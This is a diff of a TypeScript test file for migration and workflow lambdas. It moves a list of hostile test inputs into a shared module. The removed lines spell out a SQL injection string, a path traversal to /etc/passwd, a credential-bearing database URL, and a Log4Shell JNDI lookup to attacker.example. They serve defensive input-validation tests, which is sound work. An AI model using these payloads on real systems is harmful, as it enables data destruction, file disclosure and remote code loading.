@@ -18,19 +18,10 @@ import { applyHandler, planHandler } from '../../lambdas/migrations/handlers';
 import { handler as smokeTest } from '../../lambdas/smoke-test/handler';
 import { handler as verify } from '../../lambdas/verify/handler';
 import { handler as validateInput } from '../../lambdas/workflow-input/handler';
+import { HOSTILE, HOSTILE_PASSWORD, OVERSIZED } from '../support/bad-values';
 import { exampleDrillInput } from '../support/drill-input';
 
 type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
-
-const HOSTILE = [
-  "x'; DROP TABLE account; --",
-  'postgresql://admin:hunter2@db.example.org:5432/app',
-  '../../etc/passwd',
-  'a\u0000b',
-  'line\nbreak',
-  '${jndi:ldap://attacker.example/x}',
-];
-const OVERSIZED = 'x'.repeat(100_000);
 
 interface Target {
   readonly name: string;
@@ -285,7 +276,7 @@ describe('bad input: every field of every workflow and step input', () => {
         if (!(error.message ?? '').includes(field))
           accepted.push(`${m.path} (${m.kind}): message does not name it: ${error.message ?? ''}`);
         // A rejected password-bearing URL is never echoed.
-        expect(error.message).not.toContain('hunter2');
+        expect(error.message).not.toContain(HOSTILE_PASSWORD);
       }
       expect(accepted).toEqual([]);
       for (const spy of [...sends, connects, fetches]) expect(spy).not.toHaveBeenCalled();
